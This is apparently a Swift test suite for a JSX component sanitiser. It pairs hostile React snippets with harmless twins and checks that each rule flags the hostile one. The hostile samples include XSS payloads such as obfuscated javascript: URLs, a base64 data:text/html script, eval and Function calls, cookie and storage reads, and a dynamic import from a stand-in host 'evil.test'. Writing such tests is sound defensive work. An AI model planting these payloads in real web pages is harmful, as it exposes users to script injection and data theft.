import Testing
@testable import JSX

/// Each rule blocks a hostile component and passes its benign twin, which differs only in the unsafe part.
struct SanitiserCase: Sendable, CustomTestStringConvertible {
    var rule: String
    var hostile: String
    var benign: String
    var testDescription: String { rule + ": " + hostile.prefix(60) }
}

let sanitiserCases: [SanitiserCase] = [
    .init(rule: "dangerous-html",
          hostile: #"export default () => <div dangerouslySetInnerHTML={{ __html: "<b>hi</b>" }} />;"#,
          benign: #"export default () => <div><b>hi</b></div>;"#),
    .init(rule: "dangerous-html",
          hostile: #"const p = { dangerouslySetInnerHTML: { __html: x } }; export default () => <div {...p} />;"#,
          benign: #"const p = { title: "x" }; export default () => <div {...p} />;"#),
    .init(rule: "forbidden-element", hostile: #"export default () => <script>alert(1)</script>;"#,
          benign: #"export default () => <section>alert(1)</section>;"#),
    .init(rule: "forbidden-element", hostile: #"export default () => <iframe src="https://example.com" />;"#,
          benign: #"export default () => <img src="/a.png" alt="" />;"#),
    .init(rule: "forbidden-element", hostile: #"export default () => <object data="x.swf" />;"#,
          benign: #"export default () => <figure data-x="x.swf" />;"#),
    .init(rule: "forbidden-element", hostile: #"export default () => <embed src="x.swf" />;"#,
          benign: #"export default () => <video src="x.mp4" />;"#),
    .init(rule: "unsafe-url", hostile: #"export default () => <a href="javascript:alert(1)">x</a>;"#,
          benign: #"export default () => <a href="https://example.com">x</a>;"#),
    .init(rule: "unsafe-url", hostile: #"export default () => <a href=" JaVaScRiPt :alert(1)">x</a>;"#,
          benign: #"export default () => <a href="/javascript-guide">x</a>;"#),
    .init(rule: "unsafe-url", hostile: #"export default () => <a href="javascript&#58;alert(1)">x</a>;"#,
          benign: #"export default () => <a href="mailto:a@b.c">x</a>;"#),
    .init(rule: "unsafe-url", hostile: #"export default ({ x }) => <a href={`javascript:${x}`}>x</a>;"#,
          benign: #"export default ({ x }) => <a href={`/items/${x}`}>x</a>;"#),
    .init(rule: "unsafe-url", hostile: #"export default () => <a href={"java" + "script:void(0)"}>x</a>;"#,
          benign: #"export default () => <a href={"/docs" + "/intro"}>x</a>;"#),
    .init(rule: "unsafe-url", hostile: #"export default () => <img src="data:text/html;base64,PHNjcmlwdD4=" />;"#,
          benign: #"export default () => <img src="data:image/png;base64,iVBORw0=" />;"#),
    .init(rule: "unsafe-url", hostile: #"export default () => <form action="javascript:steal()"><button>Go</button></form>;"#,
          benign: #"export default () => <form action="/subscribe"><button>Go</button></form>;"#),
    .init(rule: "dynamic-code", hostile: #"export default () => <p>{eval("1 + 1")}</p>;"#,
          benign: #"export default () => <p>{1 + 1}</p>;"#),
    .init(rule: "dynamic-code", hostile: #"const f = new Function("return 1"); export default () => <p>{f()}</p>;"#,
          benign: #"const f = function () { return 1; }; export default () => <p>{f()}</p>;"#),
    .init(rule: "dynamic-code", hostile: #"const f = Function("return 1"); export default () => <p>{f()}</p>;"#,
          benign: #"const f = () => 1; export default () => <p>{f()}</p>;"#),
    .init(rule: "dynamic-code", hostile: #"setTimeout("alert(1)", 10); export default () => <p />;"#,
          benign: #"setTimeout(() => console.log(1), 10); export default () => <p />;"#),
    .init(rule: "storage", hostile: #"export default () => <p>{document.cookie}</p>;"#,
          benign: #"export default () => <p>{document.title}</p>;"#),
    .init(rule: "storage", hostile: #"export default () => <p>{localStorage.getItem("k")}</p>;"#,
          benign: #"const store = new Map(); export default () => <p>{store.get("k")}</p>;"#),
    .init(rule: "storage", hostile: #"export default () => <p>{window["sessionStorage"].k}</p>;"#,
          benign: #"export default () => <p>{window["innerWidth"]}</p>;"#),
    .init(rule: "navigation", hostile: #"export default () => <button onClick={() => { window.location = "https://evil.test"; }}>Go</button>;"#,
          benign: #"export default () => <button onClick={() => { console.log(window.location.pathname); }}>Go</button>;"#),
    .init(rule: "navigation", hostile: #"export default () => <button onClick={() => { location.href = "/x"; }}>Go</button>;"#,
          benign: #"export default () => <button onClick={() => { const href = "/x"; }}>Go</button>;"#),
    .init(rule: "network", hostile: #"export default () => <button onClick={() => fetch("/api")}>Load</button>;"#,
          benign: #"export default ({ onLoad }) => <button onClick={() => onLoad("/api")}>Load</button>;"#),
    .init(rule: "network", hostile: #"const x = new XMLHttpRequest(); export default () => <p />;"#,
          benign: #"const x = new Date(); export default () => <p />;"#),
    .init(rule: "network", hostile: #"const s = new WebSocket("wss://x"); export default () => <p />;"#,
          benign: #"const s = new URL("https://x"); export default () => <p />;"#),
    .init(rule: "network", hostile: #"navigator.sendBeacon("/t", "x"); export default () => <p />;"#,
          benign: #"navigator.clipboard.writeText("x"); export default () => <p />;"#),
    .init(rule: "import", hostile: #"import axios from "axios"; export default () => <p />;"#,
          benign: #"import { useState } from "react"; export default () => <p />;"#),
    .init(rule: "import", hostile: #"const m = import("https://evil.test/x.js"); export default () => <p />;"#,
          benign: #"const m = Promise.resolve(1); export default () => <p />;"#),
    .init(rule: "string-handler", hostile: #"export default () => <button onClick="alert(1)">x</button>;"#,
          benign: #"export default () => <button onClick={() => alert(1)}>x</button>;"#),
]

@Test(arguments: sanitiserCases)
func ruleBlocksHostileAndPassesBenign(_ c: SanitiserCase) {
    let checker = JSXChecker()
    let hostile = checker.check(c.hostile)
    #expect(hostile.contains { $0.rule == c.rule }, "expected \(c.rule) in \(hostile)")
    #expect(hostile.allSatisfy { $0.rule != nil }, "hostile sample should parse: \(hostile)")
    #expect(checker.check(c.benign) == [], "benign twin was flagged")
}

@Test func findingsCarryPositionAndReason() throws {
    let source = "import x from \"left-pad\";\nexport default () => <a href=\"javascript:void(0)\">x</a>;\n"
    let found = JSXChecker().check(source)
    #expect(found.map(\.description) == [
        "1:1: import of 'left-pad' is not allowed: components may only import react",
        "2:25: href is a javascript: or data:text/html URL, which runs code when followed",
    ])
}

@Test func allowlistAdmitsConfiguredImports() {
    let source = #"import { motion } from "framer-motion"; import clsx from "clsx/lite"; export default () => <motion.div />;"#
    #expect(JSXChecker().check(source).count == 2)
    #expect(JSXChecker(allowedImports: ["react", "framer-motion", "clsx"]).check(source) == [])
}

@Test func propertyNamesAreNotReferences() {
    // `api.fetch` and `{ eval: 1 }` name properties, not the globals.
    let source = #"const api = { fetch: (u) => u, eval: 1 }; export default () => <p>{api.fetch("x")}{api.eval}</p>;"#
    #expect(JSXChecker().check(source) == [])
}
